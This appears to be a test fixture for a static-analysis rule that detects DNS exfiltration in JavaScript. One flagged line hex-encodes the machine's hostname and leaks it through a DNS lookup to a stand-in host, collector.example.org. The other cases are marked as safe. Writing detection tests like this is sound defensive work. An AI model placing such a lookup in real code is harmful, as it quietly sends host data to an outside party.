const os = require('os');
const label = Buffer.from(os.hostname()).toString('hex');
// ruleid: js_dns_exfiltration
require('dns').lookup(label + '.collector.example.org', () => {});
class PathCache {
  resolve(p) {
    const key = Buffer.from(os.hostname() + p).toString('hex');
    // ok: js_dns_exfiltration
    return this.resolve(key);
  }
  has(e) {
    const key = Buffer.from(os.hostname() + e).toString('hex');
    // ok: js_dns_exfiltration
    return this.dnsResources.hasOwnProperty(key);
  }
}
